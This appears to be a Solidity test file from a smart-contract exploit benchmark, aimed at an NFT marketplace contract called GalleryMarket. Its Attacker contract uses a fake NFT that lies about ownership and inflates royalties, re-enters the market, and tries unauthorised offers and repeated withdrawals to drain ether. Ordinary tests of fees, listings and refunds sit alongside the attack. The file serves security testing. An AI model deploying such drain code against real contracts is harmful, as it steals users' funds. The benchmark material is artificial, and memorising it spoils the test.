// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "@openzeppelin/contracts@4.9.6/token/ERC721/ERC721.sol";
import "@openzeppelin/contracts@4.9.6/token/common/ERC2981.sol";
import "./GalleryMarket.sol";

// assay-canary-c7c0c65c-7ef2-4b96-94c6-b08502acbf7a

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Art is ERC721, ERC2981 {
    address private immutable _minter = msg.sender;

    constructor(address artist) ERC721("Art", "ART") {
        _setDefaultRoyalty(artist, 500);
    }

    function mint(address to, uint256 id) external {
        require(msg.sender == _minter);
        _mint(to, id);
    }

    function supportsInterface(bytes4 i) public view override(ERC721, ERC2981) returns (bool) {
        return super.supportsInterface(i);
    }
}

/// The attacker's own collection: whatever is asked, the answer suits it.
contract Sham {
    address internal boss = msg.sender;

    function supportsInterface(bytes4 i) external pure returns (bool) {
        return i != 0xffffffff;
    }

    function royaltyInfo(uint256, uint256 price) external view returns (address, uint256) {
        return (boss, price * 100);
    }

    function ownerOf(uint256) external view returns (address) {
        return boss;
    }

    function safeTransferFrom(address, address, uint256) external {
        Attacker(payable(boss)).again();
    }
}

contract Attacker {
    GalleryMarket internal market;
    Art internal art;
    Sham internal sham;
    uint256 internal depth;
    uint256 internal last;

    constructor(GalleryMarket market_, Art art_) {
        market = market_;
        art = art_;
        art_.setApprovalForAll(address(market_), true);
    }

    receive() external payable {
        again();
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        again();
        return this.onERC721Received.selector;
    }

    function again() public {
        if (depth >= 3) return;
        ++depth;
        _try(abi.encodeCall(market.withdraw, (payable(address(this)))), 0);
        _try(abi.encodeCall(market.cancelOffer, (last)), 0);
        _try(abi.encodeCall(market.acceptOffer, (last, 7)), 0);
        _try(abi.encodeCall(market.acceptOffer, (0, 7)), 0);
    }

    function _try(bytes memory data, uint256 value) internal returns (bool ok) {
        (ok, ) = address(market).call{value: value}(data);
    }

    function _offer(address nft, uint256 id, bool whole, uint256 value) internal {
        last = 0;
        (bool ok, bytes memory ret) = address(market).call{value: value}(
            abi.encodeCall(market.makeOffer, (nft, id, whole, 1 days))
        );
        if (ok) last = abi.decode(ret, (uint256));
        depth = 0;
    }

    function run() external {
        sham = new Sham();
        // what belongs to others
        _try(abi.encodeCall(market.list, (address(art), 1, 1, 1 days)), 0);
        _try(abi.encodeCall(market.unlist, (address(art), 2)), 0);
        _try(abi.encodeCall(market.buy, (address(art), 2)), 1);
        _try(abi.encodeCall(market.buy, (address(art), 1)), 0);
        _try(abi.encodeCall(market.cancelOffer, (0)), 0);
        _try(abi.encodeCall(market.acceptOffer, (0, 1)), 0);
        _try(abi.encodeCall(market.setFee, (500)), 0);
        _try(abi.encodeCall(market.transferOwnership, (address(this))), 0);
        // a collection that says what one likes, bought from and by oneself
        _try(abi.encodeCall(market.list, (address(sham), 1, 1 ether, 1 days)), 0);
        _try(abi.encodeCall(market.buy, (address(sham), 1)), 1 ether);
        _try(abi.encodeCall(market.buy, (address(sham), 1)), 1 ether);
        _offer(address(sham), 1, true, 1 ether);
        _try(abi.encodeCall(market.acceptOffer, (last, 5)), 0);
        _try(abi.encodeCall(market.acceptOffer, (last, 6)), 0);
        _try(abi.encodeCall(market.cancelOffer, (last)), 0);
        depth = 0;
        _try(abi.encodeCall(market.withdraw, (payable(address(this)))), 0);
        // the cheap token, offered for and accepted by oneself
        _offer(address(art), 7, false, 0.5 ether);
        _try(abi.encodeCall(market.acceptOffer, (last, 7)), 0);
        _try(abi.encodeCall(market.acceptOffer, (last, 7)), 0);
        _offer(address(art), 7, false, 0.5 ether);
        _try(abi.encodeCall(market.cancelOffer, (last)), 0);
        _try(abi.encodeCall(market.cancelOffer, (last)), 0);
        // the cheap token, for the offers of others
        _try(abi.encodeCall(market.acceptOffer, (0, 7)), 0);
        _try(abi.encodeCall(market.acceptOffer, (1, 7)), 0);
        depth = 0;
        _try(abi.encodeCall(market.withdraw, (payable(address(this)))), 0);
        _try(abi.encodeCall(market.withdraw, (payable(address(this)))), 0);
    }
}

/// Takes no ether.
contract Stone {
    function put(GalleryMarket market) external payable {
        market.cancelOffer(market.makeOffer{value: msg.value}(address(this), 0, true, 1 days));
    }

    function withdraw(GalleryMarket market) external {
        market.withdraw(payable(address(this)));
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant ARTIST = address(0xA7);
    address private constant ANN = address(0xA1);
    address private constant BOB = address(0xB0B);
    address private constant CAT = address(0xCA7);

    Art private art;
    GalleryMarket private market;
    Attacker private crook;

    receive() external payable {}

    function setUp() public {
        vm.warp(1_795_000_000);
        art = new Art(ARTIST);
        market = new GalleryMarket(200);
        crook = new Attacker(market, art);
        art.mint(ANN, 1);
        art.mint(ANN, 2);
        art.mint(address(crook), 7);
        vm.deal(address(crook), 3 ether);
        vm.deal(BOB, 20 ether);
        vm.deal(CAT, 20 ether);
        vm.prank(ANN);
        art.setApprovalForAll(address(market), true);
        vm.prank(ANN);
        market.list(address(art), 2, 2 ether, 7 days);
        vm.prank(BOB);
        market.makeOffer{value: 10 ether}(address(art), 1, false, 7 days);
        vm.prank(CAT);
        market.makeOffer{value: 0.5 ether}(address(art), 0, true, 7 days);
    }

    function test_Regular() public {
        vm.prank(CAT);
        market.buy{value: 2 ether}(address(art), 2);
        require(art.ownerOf(2) == CAT && market.owed(ANN) == 1.86 ether && market.owed(ARTIST) == 0.1 ether, "bought");
        require(market.owed(address(this)) == 0.04 ether, "fee");
        vm.prank(ANN);
        market.acceptOffer(0, 1);
        require(art.ownerOf(1) == BOB && market.owed(ANN) == 1.86 ether + 9.3 ether, "accepted");
        vm.prank(ANN);
        market.withdraw(payable(ANN));
        require(ANN.balance == 11.16 ether && market.owed(ANN) == 0, "withdrawn");

        vm.prank(BOB);
        art.setApprovalForAll(address(market), true);
        vm.prank(BOB);
        market.list(address(art), 1, 3 ether, 7 days);
        vm.prank(BOB);
        art.transferFrom(BOB, ANN, 1);
        market.unlist(address(art), 1);
        vm.prank(ANN);
        market.list(address(art), 1, 3 ether, 7 days);
        vm.prank(ANN);
        market.unlist(address(art), 1);
        vm.prank(ANN);
        market.acceptOffer(1, 1);
        require(art.ownerOf(1) == CAT && market.owed(ANN) == 0.465 ether, "any token");

        vm.prank(CAT);
        uint256 id = market.makeOffer{value: 1 ether}(address(art), 7, false, 1 days);
        vm.prank(CAT);
        market.cancelOffer(id);
        require(market.owed(CAT) == 1 ether, "cancelled");
        market.setFee(0);
        market.transferOwnership(BOB);
        vm.prank(BOB);
        market.acceptOwnership();
        require(market.owner() == BOB, "handed over");
        vm.prank(BOB);
        market.renounceOwnership();
    }

    // What is refused, each from the state after setUp().

    function test_RefusesFees() public {
        vm.expectRevert("fee too high");
        market.setFee(501);
        vm.prank(BOB);
        vm.expectRevert("Ownable: caller is not the owner");
        market.setFee(1);
    }

    function test_RefusesListings() public {
        vm.prank(BOB);
        vm.expectRevert(GalleryMarket.NotYours.selector);
        market.list(address(art), 1, 1 ether, 1 days);
        vm.prank(ANN);
        vm.expectRevert("no price");
        market.list(address(art), 1, 0, 1 days);
        vm.prank(ANN);
        vm.expectRevert("bad term");
        market.list(address(art), 1, 1 ether, 0);
        vm.prank(ANN);
        vm.expectRevert("bad term");
        market.list(address(art), 1, 1 ether, 30 days + 1);
        vm.prank(BOB);
        vm.expectRevert(GalleryMarket.NotYours.selector);
        market.unlist(address(art), 2);
        vm.expectRevert(GalleryMarket.Stale.selector);
        market.unlist(address(art), 1);
    }

    function test_RefusesPurchases() public {
        vm.prank(BOB);
        vm.expectRevert(abi.encodeWithSelector(GalleryMarket.WrongPrice.selector, 2 ether));
        market.buy{value: 2 ether - 1}(address(art), 2);
        vm.warp(block.timestamp + 7 days);
        vm.prank(BOB);
        vm.expectRevert(GalleryMarket.Stale.selector);
        market.buy{value: 2 ether}(address(art), 2);
        vm.prank(ANN);
        vm.expectRevert(GalleryMarket.Stale.selector);
        market.acceptOffer(0, 1);
    }

    function test_RefusesOffers() public {
        vm.prank(BOB);
        vm.expectRevert("bad amount");
        market.makeOffer(address(art), 1, false, 1 days);
        vm.deal(BOB, 1 << 97);
        vm.prank(BOB);
        vm.expectRevert("bad amount");
        market.makeOffer{value: 1 << 96}(address(art), 1, false, 1 days);
        vm.prank(BOB);
        vm.expectRevert("bad term");
        market.makeOffer{value: 1}(address(art), 1, false, 0);
        vm.prank(BOB);
        vm.expectRevert("bad term");
        market.makeOffer{value: 1}(address(art), 1, false, 30 days + 1);
        vm.prank(CAT);
        vm.expectRevert(GalleryMarket.NotYours.selector);
        market.cancelOffer(0);
    }

    function test_RefusesWithdrawals() public {
        vm.prank(ANN);
        vm.expectRevert("nothing owed");
        market.withdraw(payable(ANN));
        Stone stone = new Stone();
        vm.deal(address(this), 1 ether);
        stone.put{value: 1 ether}(market);
        vm.expectRevert("ETH not accepted");
        stone.withdraw(market);
    }

    function exploit() public {
        crook.run();
    }

    function test_Exploit() public {
        uint256 before = address(crook).balance;
        exploit();
        require(address(crook).balance >= before + 4 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(crook);
    }
}
